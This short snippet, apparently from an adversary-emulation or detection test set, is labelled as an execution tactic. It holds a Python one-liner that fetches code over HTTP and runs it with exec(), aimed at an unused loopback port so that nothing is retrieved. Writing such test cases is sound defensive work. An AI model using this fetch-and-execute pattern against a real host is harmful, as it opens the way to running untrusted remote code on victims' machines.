# tactic: execution
# Python runs code fetched from a server (loopback, nothing listens)
python3 -c "import urllib.request
try: exec(urllib.request.urlopen('http://127.0.0.1:9/p', timeout=1).read())
except Exception: pass"
